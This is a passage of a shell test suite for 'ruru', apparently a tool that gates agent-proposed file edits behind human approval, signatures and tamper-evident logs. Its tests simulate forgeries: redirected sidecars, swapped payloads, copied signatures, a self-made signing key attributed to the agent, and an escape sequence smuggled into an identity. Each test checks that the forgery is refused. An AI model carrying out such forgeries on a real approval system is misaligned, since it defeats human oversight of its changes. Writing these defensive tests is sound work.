	a=$(propose_old_new)
	"$RURU" confirm approve "$a"
	run env RURU_FAULT=rename "$RURU" confirm apply "$a"
	[ "$status" -ne 0 ]
	[ "$(cat t)" = old ]
	[ "$(status_of "$a")" = approved ]
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
}

@test "a paused session takes no proposal and no apply" {
	"$RURU" new "Paused" >/dev/null
	a=$(propose_old_new)
	"$RURU" confirm approve "$a"
	"$RURU" pause
	run -5 "$RURU" confirm propose --target t --content p
	[[ "$output" == *"ruru resume"* ]]
	run -5 "$RURU" confirm apply "$a"
	[ "$(cat t)" = old ]
	"$RURU" resume
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
}

@test "show and list, text and --json" {
	"$RURU" new "Show" >/dev/null
	printf 'old\n' > t; printf 'new\n' > p
	a=$(propose t p)
	run -0 "$RURU" confirm show "$a"
	[[ "$output" == *"target:    t"* ]]
	[[ "$output" == *"status:    pending"* ]]
	[[ "$output" == *"-old"*"+new"* ]]
	run -0 "$RURU" --json confirm show "$(sidecar "$a")"
	echo "$output" | python3 -c '
import json,sys; d=json.load(sys.stdin)
assert d["schema_version"]==1 and d["status"]=="pending" and d["target"]=="t", d
assert "+new" in d["diff"] and d["payload_intact"] and d["target_unchanged"]'
	"$RURU" confirm approve "$a"
	b=$(propose t p)
	run "$RURU" confirm list --status approved
	[ "${lines[0]}" = "1 proposal (artifact, status, target):" ]
	[[ "${lines[1]}" == "$a  approved  t  (content, 2026-"*")" ]]
	[ "${#lines[@]}" -eq 2 ]
	run "$RURU" --json confirm list
	echo "$output" | python3 -c '
import json,sys; d=json.load(sys.stdin)
assert d["schema_version"]==1
assert [c["status"] for c in d["confirmations"]]==["approved","pending"], d'
	run -2 "$RURU" confirm list --status bogus
	run -3 "$RURU" confirm show .ruru/temp/CONFIRM-none.md
}

@test "propose usage errors" {
	"$RURU" new "Usage" >/dev/null
	echo x > p
	run -2 "$RURU" confirm propose --content p
	run -2 "$RURU" confirm propose --target t
	run -2 "$RURU" confirm propose --target t --content p --diff p
	run -3 "$RURU" confirm propose --target t --content missing
	run -2 "$RURU" confirm delegate "x"
}

# ---------------------------------------------------------------------
# Binding (doc/design.md §6): every way of redirecting a decision is refused.

# Call one MCP tool; prints "ERROR <text>" or "OK <structured JSON>".
mcp() {
	python3 - "$RURU" "$1" "$2" <<'PY'
import json, subprocess, sys
ruru, tool, args = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
msgs = [{"jsonrpc": "2.0", "id": 1, "method": "initialize",
         "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "bats", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
         "params": {"name": tool, "arguments": args}}]
p = subprocess.run([ruru, "mcp", "--toolsets", "all"], input="".join(json.dumps(m) + "\n" for m in msgs),
                   capture_output=True, text=True)
for line in p.stdout.splitlines():
    m = json.loads(line)
    if m.get("id") == 2:
        r = m.get("result") or {}
        if r.get("isError") or "error" in m:
            print("ERROR", r.get("content", [{}])[0].get("text", m.get("error")))
        else:
            print("OK", json.dumps(r.get("structuredContent")))
PY
}

# How many result entries the active session's log holds.
results() { grep -c '\*\*result\*\*' "$(log_of)" || true; }

# A fresh approved proposal of `new` for t (old); echoes the artifact.
approved() {
	printf 'old\n' > t; printf 'other\n' > other.txt; printf 'new\n' > p
	local a; a=$(propose t p)
	"$RURU" confirm approve "$a" >/dev/null
	echo "$a"
}

# Each way of redirecting an approval after the decision; $1 = session|temp.
redirections() {
	local mode=$1 a s
	for how in side_target side_payload side_target_sha side_kind forged_status rejected \
		    withdrawn record_edit record_gone; do
		a=$(approved); s=$(sidecar "$a")
		local before; before=$( [ "$mode" = session ] && results || echo 0)
		case $how in
		side_target) sed -i 's|^target_path = .*|target_path = "other.txt"|' "$s" ;;
		side_payload) printf 'evil\n' > "$a"
			sed -i "s|^payload_sha256 = .*|payload_sha256 = \"$(sum "$a")\"|" "$s" ;;
		side_kind) # approved as content (a file holding diff text), applied as a diff
			printf -- '--- a/t\n+++ b/t\n@@ -1 +1 @@\n-old\n+evil\n' > pd
			b=$(propose t pd); "$RURU" confirm approve "$b" >/dev/null; a=$b; s=$(sidecar "$a")
			sed -i 's/^kind = .*/kind = "diff"/' "$s" ;;
		side_target_sha) printf 'changed\n' > t
			sed -i "s|^target_sha256 = .*|target_sha256 = \"$(sum t)\"|" "$s" ;;
		forged_status) b=$(propose t p); a=$b; s=$(sidecar "$a")
			sed -i 's/^status = .*/status = "approved"/' "$s" ;;
		rejected) b=$(propose t p); "$RURU" confirm reject "$b" >/dev/null; a=$b; s=$(sidecar "$a")
			sed -i 's/^status = .*/status = "approved"/' "$s" ;;
		withdrawn) "$RURU" confirm withdraw "$a" >/dev/null
			sed -i 's/^status = .*/status = "approved"/' "$s" ;;
		record_edit)
			if [ "$mode" = session ]; then
				sed -i 's|the change to `t` (content) ·|the change to `other.txt` (content) ·|' "$(log_of)"
			else
				sed -i 's|^target_path = "t"|target_path = "other.txt"|' .ruru/temp/decisions.log
			fi ;;
		record_gone)
			if [ "$mode" = session ]; then
				sed -i '/\*\*confirm-response\*\*/d' "$(log_of)"
			else
				rm .ruru/temp/decisions.log
			fi ;;
		esac
		cp t t.before
		run -5 "$RURU" confirm apply "$a" || { echo "$mode/$how: exit $status: $output"; return 1; }
		run -5 "$RURU" confirm apply --force "$a" || { echo "$mode/$how --force: exit $status: $output"; return 1; }
		cmp t t.before && [ "$(cat other.txt)" = other ] || { echo "$mode/$how: a target changed"; return 1; }
		if [ "$mode" = session ]; then
			[ "$(results)" = "$before" ] || { echo "$mode/$how: a refusal was logged"; return 1; }
		fi
		# also through MCP (the artifact by its bare name there)
		for args in "{\"artifact\": \"$a\"}" "{\"artifact\": \"$(basename "$a")\", \"force\": true}"; do
			run mcp confirm_apply "$args"
			[[ "$output" == ERROR* ]] || { echo "$mode/$how MCP: $output"; return 1; }
		done
		cmp t t.before && [ "$(cat other.txt)" = other ]
	done
}

@test "binding: every redirection of a session approval is refused (exit 5), CLI and MCP" {
	"$RURU" new "Bind" >/dev/null
	redirections session
	# Nothing half-written by the refusals: the log (edited by hand in the
	# record_* cases) still checks clean, no error and no warning.
	run -0 "$RURU" --json check || { echo "$output"; false; }
	[ "$(jq -r '.errors + .warnings' <<<"$output")" = 0 ] || { echo "$output"; false; }
}

@test "binding: every redirection of a temp approval is refused (exit 5), CLI and MCP" {
	redirections temp
	[ -z "$(ls .ruru/sessions)" ]
	# the records are TOML that other tools read
	approved >/dev/null
	"$RURU" toml decode .ruru/temp/decisions.log >/dev/null
	! python3 -c 'import tomllib' 2>/dev/null ||
		python3 -c 'import tomllib; d=tomllib.load(open(".ruru/temp/decisions.log","rb")); assert d["decision"][-1]["decision"]=="approved", d'
}

@test "binding: decision entries and decisions.log name target and both hashes" {
	"$RURU" new "Rec" >/dev/null
	a=$(approved)
	# ... and the result that was decided and the proposal's nonce
	n=$(sed -n 's/^nonce = "\(.*\)"$/\1/p' "$(sidecar "$a")")
	[ ${#n} -eq 32 ]
	grep -q "confirm-response.*outcome \`approved\`: User approved the change to \`t\` (content) · payload_sha256 \`$(sum p)\` · target_sha256 \`$(sum t)\` · result_sha256 \`$(sum p)\` · nonce \`$n\`\$" "$(log_of)"
	"$RURU" confirm apply "$a"
	# temp mode: the record goes to .ruru/temp/decisions.log
	"$RURU" complete
	rm .ruru/sessions/.active
	printf 'x\n' > n.txt
	b=$("$RURU" confirm propose --target brand/new.txt --content n.txt)
	"$RURU" confirm skip --rationale "new file, low risk" "$b"
	"$RURU" toml decode .ruru/temp/decisions.log > dec.json
	python3 - "$b" "$(sum n.txt)" <<'PY'
import json, sys
d = json.load(open("dec.json"))
r = d["decision"]["value"][-1] if "value" in d["decision"] else d["decision"][-1]
v = {k: x["value"] for k, x in r.items()}
assert v["decision"] == "skipped" and v["artifact"] == sys.argv[1], v
assert v["target_path"] == "brand/new.txt" and v["payload_sha256"] == sys.argv[2], v
assert v["target_sha256"] == "" and v["decided_by"] == "coordinator", v
assert v["kind"] == "content", v
assert v["rationale"] == "new file, low risk", v
PY
	"$RURU" confirm apply "$b"
	cmp brand/new.txt n.txt
}

@test "binding: a sidecar set back to pending cannot be decided again" {
	"$RURU" new "Again" >/dev/null
	printf 'old\n' > t; printf 'new\n' > p
	a=$(propose t p)
	"$RURU" confirm reject "$a"
	sed -i 's/^status = .*/status = "pending"/' "$(sidecar "$a")"
	run -5 "$RURU" confirm approve "$a"
	[[ "$output" == *"already decided"* ]]
	run -5 "$RURU" confirm apply "$a"
	[ "$(cat t)" = old ]
	run "$RURU" confirm show "$a"
	[[ "$output" == *"record:    the logged decision DIFFERS from the sidecar"* ]]
}

@test "CONFIRM-*.toml names are reserved: artifact add refuses them (CLI and MCP), list hides sidecars" {
	"$RURU" new "Reserved" >/dev/null
	a=$(approved); s=$(sidecar "$a")
	cp "$s" s.orig
	sed 's|^target_path = .*|target_path = "other.txt"|' "$s" > forged.toml
	run -6 "$RURU" artifact add --force --name "$(basename "$s")" forged.toml
	[[ "$output" == *"reserved"* ]]
	run -6 "$RURU" artifact add --name sub/confirm-x.TOML forged.toml
	run mcp artifact_add "{\"name\": \"$(basename "$s")\", \"content\": \"x\", \"force\": true}"
	[[ "$output" == ERROR*reserved* ]]
	cmp "$s" s.orig
	run -0 "$RURU" artifact list
	[[ "$output" != *".toml"* ]]
	[[ "$output" == *"CONFIRM-t-"*".md"* ]]
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
}

@test "diff payloads: exactly one unified diff of the target (exit 4 at propose and adopt)" {
	"$RURU" new "Strict" >/dev/null
	printf 'a\nb\n' > t
	u=$'--- a/t\n+++ b/t\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n'
	printf '%s' "$u" > ok.diff
	printf '%s*** t\n--- t\n***************\n*** 1 ****\n! a\n--- 1 ----\n! X\n' "$u" > ctx.diff
	printf '%s1c\nX\n.\n' "$u" > ed.diff
	printf -- '--- a/u\n+++ b/u\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > other.diff
	printf -- '--- a/t\n+++ b/t\n@@ -1 +1 @@\n-a\n+A\n-b\n+B\n' > long.diff
	for d in ctx.diff ed.diff other.diff long.diff; do
		run -4 "$RURU" confirm propose --target t --diff "$d" || { echo "$d: $status $output"; return 1; }
	done
	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
	# a hand-made CONFIRM file with a tacked-on ed script cannot be adopted as a diff
	mkdir -p "$(dirname "$(log_of)")/artifacts"
	cp ed.diff "$(dirname "$(log_of)")/artifacts/CONFIRM-t-hand.md"
	run -4 "$RURU" confirm adopt --kind diff --target t CONFIRM-t-hand.md
	run -0 "$RURU" confirm propose --target t --diff ok.diff
	[ "$(cat t)" = "$(printf 'a\nb')" ]
}

@test "apply is idempotent: a target copied by hand is recorded as applied (content, diff, temp)" {
	"$RURU" new "Hand" >/dev/null
	a=$(approved)
	cp "$a" t                        # the standard's executor: cp artifact target
	run -0 "$RURU" confirm apply "$a"
	[[ "$output" == *"already held"* ]]
	[ "$(status_of "$a")" = applied ]
	grep -q '\*\*result\*\* .*outcome `success`: Recorded `artifacts/CONFIRM-t-.*` as applied' "$(log_of)"
	run -5 "$RURU" confirm apply "$a"   # now it is a refusal, logging nothing
	[ "$(results)" -eq 1 ]
	# a diff patched by hand
	printf 'a\nb\n' > d.txt
	printf -- '--- a/d.txt\n+++ b/d.txt\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > d.diff
	b=$("$RURU" confirm propose --target d.txt --diff d.diff)
	"$RURU" confirm approve "$b"
	patch -s d.txt < "$b"
	run -0 "$RURU" --json confirm apply "$b"
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["already_applied"] and d["status"]=="applied", d'
	[ "$(cat d.txt)" = "$(printf 'a\nB')" ]
	# temp mode: the pair is removed
	"$RURU" complete; rm .ruru/sessions/.active
	c=$(approved)
	cp "$c" t
	"$RURU" confirm apply "$c"
	[ ! -e "$c" ] && [ ! -e "$(sidecar "$c")" ]
}

@test "refused applies log nothing: pending, stale target, already applied, withdrawn" {
	"$RURU" new "Quiet" >/dev/null
	a=$(approved)
	echo meanwhile > t
	run -5 "$RURU" confirm apply "$a"
	[ "$(results)" -eq 0 ]
	run -0 "$RURU" confirm withdraw "$a" --reason "target moved on"
	run -5 "$RURU" confirm apply "$a"
	[ "$(results)" -eq 0 ]
}

@test "withdraw, propose --supersedes, clean" {
	"$RURU" new "Withdraw" >/dev/null
	printf 'old\n' > t; printf 'v1\n' > p1; printf 'v2\n' > p2
	a=$(propose t p1)
	b=$("$RURU" confirm propose --target t --content p2 --supersedes "$a")
	[ "$(status_of "$a")" = withdrawn ]
	grep -qx "withdrawn_reason = \"superseded by $b\"" "$(sidecar "$a")"
	grep -q '\*\*note\*\* · artifact `artifacts/CONFIRM-t-.*`: Withdrew the proposal for `t` (content) · payload_sha256' "$(log_of)"
	run "$RURU" confirm list --status withdrawn
	[ "${lines[0]}" = "1 proposal (artifact, status, target):" ]
	[[ "${lines[1]}" == "$a  withdrawn  t  (content, 2026-"*")" ]]
	[ "${#lines[@]}" -eq 2 ]
	run -5 "$RURU" confirm approve "$a"
	run -5 "$RURU" confirm withdraw "$a"
	run -5 "$RURU" confirm propose --target t --content p2 --supersedes "$a"
	"$RURU" confirm approve "$b"
	run mcp confirm_withdraw "{\"artifact\": \"$b\", \"reason\": \"not needed\"}"
	[[ "$output" == OK*'"status": "withdrawn"'* ]]
	# the answer is read back from the disk: the payload is intact
	[[ "$output" == *'"payload_intact": true'* ]]
	run -5 "$RURU" confirm apply "$b"
	[ "$(cat t)" = old ]
	# temp mode: clean removes withdrawn, rejected and applied pairs only
	"$RURU" complete; rm .ruru/sessions/.active
	for x in w r k q; do echo "$x" > "$x.txt"; done
	w=$(propose w.txt p1); r=$(propose r.txt p1); k=$(propose k.txt p1); q=$(propose q.txt p1)
	"$RURU" confirm withdraw "$w"; "$RURU" confirm reject "$r"; "$RURU" confirm approve "$q"
	run -0 "$RURU" confirm clean
	[ "$(printf '%s\n' "$output" | sort)" = "$(printf '%s\n' "$r" "$w" | sort)" ]
	[ ! -e "$w" ] && [ ! -e "$(sidecar "$w")" ] && [ ! -e "$r" ]
	[ -e "$k" ] && [ -e "$q" ] && [ -e .ruru/temp/decisions.log ]
	run "$RURU" confirm clean
	[ "$output" = "Nothing to remove." ]
	run "$RURU" --json confirm clean
	[[ "$output" == *'"removed":[]'* ]]
}

@test "CONFIRM artifacts are addressed by every unambiguous form" {
	"$RURU" new "Names" >/dev/null
	a=$(approved)
	base=$(basename "$a"); stem=${base%.md}
	for form in "artifacts/$base" "$base" "$stem" "${stem}.toml" "$(sidecar "$a")"; do
		run -0 "$RURU" confirm show "$form" || { echo "$form: $status $output"; return 1; }
		[[ "$output" == *"artifact:  $a"* ]]
	done
	mkdir -p sub && (cd sub && "$RURU" confirm show "../$a" >/dev/null)
	run mcp confirm_show "{\"artifact\": \"$stem\"}"
	[[ "$output" == OK*'"diff": "--- a/t'*'+new'* ]]
	[[ "$output" == *'"decision_record": "agrees"'* ]]
	"$RURU" confirm delegate --to dev-x "artifacts/$base" >/dev/null
	"$RURU" confirm apply "$stem"
	[ "$(cat t)" = new ]
	# the same name in two places is ambiguous and names both
	"$RURU" new "Names2" >/dev/null
	printf 'old\n' > t
	b=$(propose t p)
	[ "$(basename "$b")" = "$base" ]
	run -2 "$RURU" confirm show "$base"
	[[ "$output" == *ambiguous*"$a"*"$b"* || "$output" == *ambiguous*"$b"*"$a"* ]]
	run -3 "$RURU" confirm show CONFIRM-nothing-like-it
}

# Every write of `confirm apply` failed in turn: afterwards target, sidecar
# and log agree, or the next apply finishes; never a half state it refuses.
fault_round() {
	local mode=$1 step n a s rc
	for step in open write fsync rename dirsync chmod link mkdir; do
		for n in 1 2 3 4 5 6; do
			a=$(approved); s=$(sidecar "$a")
			run env RURU_FAULT="$step:$n" "$RURU" confirm apply "$a"
			rc=$status
			if [ "$rc" -ne 0 ]; then
				if [ "$(cat t)" = old ]; then
					# nothing happened, or was undone: still approved
					[ "$mode" = temp ] && [ ! -e "$s" ] && { echo "$step:$n sidecar lost"; return 1; }
					[ "$(status_of "$a")" = approved ] || [ "$(status_of "$a")" = applied ] ||
						{ echo "$step:$n: target old, status $(status_of "$a")"; return 1; }
				else
					[ "$(cat t)" = new ] || { echo "$step:$n: target torn"; return 1; }
					[[ "$output" == *"again"* ]] || { echo "$step:$n: $output"; return 1; }
				fi
				run -0 "$RURU" confirm apply "$a" || { echo "$step:$n: retry: $status $output"; return 1; }
			fi
			[ "$(cat t)" = new ] || { echo "$step:$n: not applied"; return 1; }
			if [ "$mode" = session ]; then
				[ "$(status_of "$a")" = applied ] || { echo "$step:$n: status"; return 1; }
				[ "$(grep -c "result.*$(basename "$a").*outcome \`success\`" "$(log_of)")" -eq 1 ] ||
					{ echo "$step:$n: success results"; return 1; }
			else
				[ ! -e "$a" ] && [ ! -e "$s" ] || { echo "$step:$n: temp pair left"; return 1; }
			fi
		done
	done
}

@test "fault injection on every write of confirm apply (session)" {
	"$RURU" new "Faults" >/dev/null
	fault_round session
	"$RURU" check
}

@test "fault injection on every write of confirm apply (temp)" {
	fault_round temp
}

@test "apply finishes whatever a failed apply left" {
	"$RURU" new "Leftover" >/dev/null
	# 1. the target written, the sidecar and the log not (rollback failed too)
	a=$(approved)
	cp "$a" t
	run -0 "$RURU" confirm apply "$a" || { echo "$output"; return 1; }
	[ "$(status_of "$a")" = applied ]
	# 2. target and sidecar written, the log entry lost
	b=$(approved)
	cp "$b" t
	sed -i 's/^status = .*/status = "applied"/' "$(sidecar "$b")"
	n=$(results)
	run -0 "$RURU" confirm apply "$b" || { echo "$output"; return 1; }
	[ "$(results)" -eq $((n + 1)) ]
	# 3. the target put back, but the sidecar still says applied
	c=$(approved)
	sed -i 's/^status = .*/status = "applied"/' "$(sidecar "$c")"
	run -0 "$RURU" confirm apply "$c" || { echo "$output"; return 1; }
	[ "$(cat t)" = new ]
	[ "$(grep -c "result.*$(basename "$c").*outcome \`success\`" "$(log_of)")" -eq 1 ]
	# and once recorded, it is a refusal that logs nothing
	n=$(results)
	run -5 "$RURU" confirm apply "$c"
	[ "$(results)" -eq "$n" ]
}

# ---------------------------------------------------------------------
# Signed decisions (doc/design.md §16).

# A fresh pending proposal of `new` for t (old); echoes the artifact.
fresh() {
	printf 'old\n' > t; printf 'other\n' > other.txt; printf 'new\n' > p
	propose t p
}

@test "signed decisions: a valid signature by an allowed signer is applied (key file and ssh-agent)" {
	signing_setup
	"$RURU" new "Signed" >/dev/null
	a=$(fresh)
	run -0 "$RURU" confirm approve --key keys/alice --as alice@example.org "$a" || { echo "$output"; return 1; }
	grep -qx 'signed_by = "alice@example.org"' "$(sidecar "$a")"
	grep -q '^signature = "-----BEGIN SSH SIGNATURE-----' "$(sidecar "$a")"
	# the signature holds for 7 days (RURU_NOW + 7d)
	grep -qx '  Signed by `alice@example.org` until 2026-12-01T03:15:20Z' "$(log_of)"
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
	# through ssh-agent: the public key names the key, the agent signs
	eval "$(ssh-agent -s)" >/dev/null
	ssh-add -q keys/alice 2>/dev/null
	b=$(fresh)
	run "$RURU" confirm approve --key keys/alice.pub --as alice@example.org "$b"
	ok=$status
	ssh-agent -k >/dev/null
	[ "$ok" -eq 0 ] || { echo "$output"; return 1; }
	"$RURU" confirm apply "$b"
	[ "$(cat t)" = new ]
	# temp mode: the signature goes into decisions.log
	"$RURU" complete; rm .ruru/sessions/.active
	c=$(fresh)
	"$RURU" confirm reject --as alice@example.org --key keys/alice "$c"
	d=$(fresh)
	"$RURU" confirm skip --rationale "trivial" --as alice@example.org --key keys/alice "$d"
	grep -q '^signature = "-----BEGIN SSH SIGNATURE-----' .ruru/temp/decisions.log
	"$RURU" confirm apply "$d"
	[ "$(cat t)" = new ]
}

@test "signed decisions: every forgery is refused by apply when signatures are required" {
	signing_setup
	"$RURU" new "Forge" >/dev/null
	# unsigned
	a=$(approved)
	run -5 "$RURU" confirm apply "$a"; [[ "$output" == *"not signed"* ]]
	# signed by a key the agent made itself (not an allowed signer)
	b=$(fresh)
	"$RURU" confirm approve --key keys/mallory --as alice@example.org "$b"
	run -5 "$RURU" confirm apply "$b"; [[ "$output" == *"not a valid signature"* ]]
	# a valid signature copied from another decision
	c=$(fresh)
	"$RURU" confirm approve --key keys/alice --as alice@example.org "$c"
	e=$(fresh)
	"$RURU" confirm approve "$e"
	sig=$(grep '^signature = ' "$(sidecar "$c")")
	printf 'signed_by = "alice@example.org"\n%s\n' "$sig" >> "$(sidecar "$e")"
	run -5 "$RURU" confirm apply "$e"
	# a forged "Signed by" line in the log with the copied signature
	python3 - "$(log_of)" "$(basename "$e")" <<'PY'
import sys
p, name = sys.argv[1], sys.argv[2]
lines = open(p).read().split("\n")
out = []
for i, l in enumerate(lines):
    out.append(l)
    if "confirm-response" in l and name in l:
        out.append("  Signed by `alice@example.org`")
open(p, "w").write("\n".join(out))
PY
	run -5 "$RURU" confirm apply "$e"; [[ "$output" == *"not a valid signature"* ]]
	# a signed approval whose sidecar was redirected afterwards
	f=$(fresh)
	"$RURU" confirm approve --key keys/alice --as alice@example.org "$f"
	sed -i 's|^target_path = .*|target_path = "other.txt"|' "$(sidecar "$f")"
	run -5 "$RURU" confirm apply "$f"
	# the workspace cannot name signers or relax the user's requirement
	mkdir -p .ruru
	printf '[confirm]\nrequire_signature = false\nallowed_signers = "keys/mallory.pub"\n' > .ruru/config.toml
	run -5 "$RURU" confirm apply "$b"
	[ "$(cat t)" = old ] && [ "$(cat other.txt)" = other ]
	# the genuine one still applies
	"$RURU" confirm apply "$c"
	[ "$(cat t)" = new ]
}

@test "signed decisions: a workspace may require signatures; confirm.sign signs by default" {
	export XDG_CONFIG_HOME=$WS/.userconf
	mkdir -p "$XDG_CONFIG_HOME/ruru" keys
	ssh-keygen -q -t ed25519 -N '' -C alice -f keys/alice
	"$RURU" new "Team" >/dev/null
	printf '[confirm]\nrequire_signature = true\n' > .ruru/config.toml
	a=$(approved)
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"no allowed_signers"* ]]
	echo "alice@example.org $(cut -d' ' -f1,2 keys/alice.pub)" > "$XDG_CONFIG_HOME/ruru/allowed_signers"
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"not signed"* ]]
	# confirm.sign = true: decisions are signed with git's signing key and email
	printf '[confirm]\nrequire_signature = true\nsign = true\n' > .ruru/config.toml
	git init -q .
	git config user.email alice@example.org
	git config user.signingkey "$WS/keys/alice"
	git config user.name Alice
	b=$(fresh)
	"$RURU" confirm approve "$b"
	grep -qx 'signed_by = "alice@example.org"' "$(sidecar "$b")"
	"$RURU" confirm apply --commit "$b"
	[ "$(cat t)" = new ]
	git log -1 --format=%B | git interpret-trailers --parse | grep -qx 'Ruru-Signed-By: alice@example.org'
}

@test "verify: a sound workspace passes; each tampering is reported as FILE:LINE:COL (exit 4)" {
	"$RURU" new "Verify" >/dev/null
	printf 'o\n' > ap.txt; printf 'n\n' > np
	a=$(propose ap.txt np); "$RURU" confirm approve "$a"; "$RURU" confirm apply "$a"
	b=$(fresh); "$RURU" confirm reject "$b"
	c=$(fresh); "$RURU" confirm withdraw "$c"
	d=$(fresh)
	run -0 "$RURU" verify || { echo "$output"; return 1; }
	[ "$output" = "Checked 4 proposals: no problems." ]
	run "$RURU" --json verify
	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["ok"] and d["proposals"]==4 and d["problems"]==[], d'
	# an applied target changed since: information only
	echo later > ap.txt
	run -0 "$RURU" verify
	[[ "$output" == "ap.txt:1:1: note: the target no longer holds the result of $a"* ]]
	# a sidecar redirected after its decision
	sed -i 's|^target_path = .*|target_path = "other.txt"|' "$(sidecar "$b")"
	line=$(grep -n '^target_path' "$(sidecar "$b")" | cut -d: -f1)
	# a payload changed
	echo evil > "$d"
	# a status forged without a decision
	e=$(fresh); sed -i 's/^status = .*/status = "approved"/' "$(sidecar "$e")"
	# the workspace naming signers
	printf '[confirm]\nallowed_signers = "mine"\n' > .ruru/config.toml
	run -4 "$RURU" verify
	[[ "$output" == *"$(sidecar "$b"):$line:1: error: target_path differs from the decision recorded at $(log_of):"* ]]
	[[ "$output" == *"$d:1:1: error: the payload does not hash to payload_sha256"* ]]
	[[ "$output" == *"$(sidecar "$e"):"*": the sidecar says approved, but $(log_of) records no decision"* ]]
	[[ "$output" == *".ruru/config.toml:2:1: error: a workspace cannot name signers"* ]]
	[[ "$output" == *"Checked 5 proposals: 5 problems, 4 of them errors." ]] || { echo "$output"; false; }
	run mcp confirm_verify '{}'
	[[ "$output" == OK*'"problems": ['*'target_path differs'* ]]
	run -3 "$RURU" verify SESSION-nope
}

@test "verify: signatures are checked when present or required" {
	signing_setup
	"$RURU" new "VerifySig" >/dev/null
	a=$(fresh); "$RURU" confirm approve --key keys/alice --as alice@example.org "$a"
	b=$(fresh); "$RURU" confirm approve --key keys/mallory --as alice@example.org "$b"
	c=$(fresh); "$RURU" confirm approve "$c"
	run -4 "$RURU" verify
	[[ "$output" != *"$(basename "$a")"* ]]
	[[ "$output" == *"not a valid signature"*"$(basename "$b")"* || "$output" == *"$(basename "$b")"*"not a valid signature"* ]]
	[[ "$output" == *"decision on \"$c\" is not signed"* ]]
}

@test "apply --commit commits exactly the target with Ruru-* trailers; refuses with other staged changes" {
	git init -q .
	git config user.email me@example.org; git config user.name Me
	printf 'old\n' > t; printf 'x\n' > other.txt
	git add t other.txt && git commit -qm init
	"$RURU" new "Commit" >/dev/null
	printf 'new\n' > p
	a=$(propose t p); "$RURU" confirm approve "$a"
	# other staged changes: refused before anything is written
	echo y > other.txt; git add other.txt
	run -5 "$RURU" confirm apply --commit "$a"
	[[ "$output" == *"staged changes"* ]]
	[ "$(cat t)" = old ] && [ "$(status_of "$a")" = approved ]
	git reset -q other.txt
	run -2 "$RURU" confirm apply --message "--message alone" "$a"
	run -0 "$RURU" confirm apply --commit --message "Apply the approved edit" "$a" || { echo "$output"; return 1; }
	[ "$(cat t)" = new ]
	[ "$(git show --name-only --format= HEAD)" = t ]
	git log -1 --format=%B | git interpret-trailers --parse > trailers
	grep -qx "Ruru-Session: $(cat .ruru/sessions/.active)" trailers
	grep -qx "Ruru-Confirm: $a" trailers
	grep -qx "Ruru-Payload-SHA256: $(sum p)" trailers
	[ "$(git log -1 --format=%s)" = "Apply the approved edit" ]
	[ -n "$(git status --porcelain other.txt)" ]   # the unstaged change stays out
	# outside a git work tree
	rm -rf .git
	b=$(fresh); "$RURU" confirm approve "$b"
	run -5 "$RURU" confirm apply --commit "$b"
	[ "$(cat t)" = old ]
}

@test "init --signing writes the user's trust anchor; git's global allowedSignersFile is honoured, the repository's is not" {
	export XDG_CONFIG_HOME=$WS/.userconf HOME=$WS/home
	mkdir -p "$HOME" keys
	ssh-keygen -q -t ed25519 -N '' -C alice -f keys/alice
	ssh-keygen -q -t ed25519 -N '' -C mallory -f keys/mallory
	mkdir -p "$XDG_CONFIG_HOME/ruru"
	printf '# mine\n[ui]\ncolor = false\n' > "$XDG_CONFIG_HOME/ruru/config.toml"
	run -0 "$RURU" init --signing --key keys/alice --as alice@example.org || { echo "$output"; return 1; }
	[[ "$output" == *"now allows the ssh-ed25519 key of alice@example.org"* ]]
	grep -qx "alice@example.org namespaces=\"ruru-confirm\" $(cut -d' ' -f1,2 keys/alice.pub)" "$XDG_CONFIG_HOME/ruru/allowed_signers"
	"$RURU" toml get "$XDG_CONFIG_HOME/ruru/config.toml" confirm.require_signature | grep -qx true
	head -1 "$XDG_CONFIG_HOME/ruru/config.toml" | grep -qx '# mine'
	cp "$XDG_CONFIG_HOME/ruru/allowed_signers" s1
	run "$RURU" init --signing --key keys/alice.pub --as alice@example.org
	[[ "$output" == *"already allowed"* ]]
	cmp s1 "$XDG_CONFIG_HOME/ruru/allowed_signers"
	run --separate-stderr "$RURU" --json init --signing --key keys/alice.pub --as alice@example.org
	python3 -c '
import json, sys; s = json.loads(sys.argv[1])["signing"]
assert s["identity"] == "alice@example.org" and s["key_type"] == "ssh-ed25519" and s["added"] is False, s
assert s["config"].endswith("/ruru/config.toml") and s["allowed_signers"].endswith("/ruru/allowed_signers"), s
assert sorted(s) == ["added", "allowed_signers", "config", "identity", "key_type"], s' "$output"
	run -2 "$RURU" init --key keys/alice
	# the user's key may live anywhere, outside the workspace too
	out=$(mktemp -d "${BATS_TMPDIR:-/tmp}/ruru-key.XXXXXX")
	ssh-keygen -q -t ed25519 -N '' -C bob -f "$out/bob"
	run -0 "$RURU" init --signing --key "$out/bob" --as bob@example.org || { rm -rf "$out"; echo "$output"; return 1; }
	run "$RURU" init --signing --key "../$(basename "$out")/bob.pub" --as bob@example.org
	rm -rf "$out"
	[[ "$output" == *"already allowed"* ]] || { echo "$output"; return 1; }
	# an identity is text: no control characters (doc/design.md §2), one word
	"$RURU" new "Ident" >/dev/null
	x=$(fresh)
	run -4 "$RURU" confirm approve --key keys/alice --as $'alice\e[31m' "$x"
	run -2 "$RURU" confirm approve --key keys/alice --as 'alice smith' "$x"
	[ "$(status_of "$x")" = pending ]
	"$RURU" complete
	"$RURU" new "Anchor" >/dev/null
	a=$(fresh); "$RURU" confirm approve --key keys/alice --as alice@example.org "$a"
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
	# git's global gpg.ssh.allowedSignersFile when ruru's own file is absent
	mv "$XDG_CONFIG_HOME/ruru/allowed_signers" "$HOME/signers"
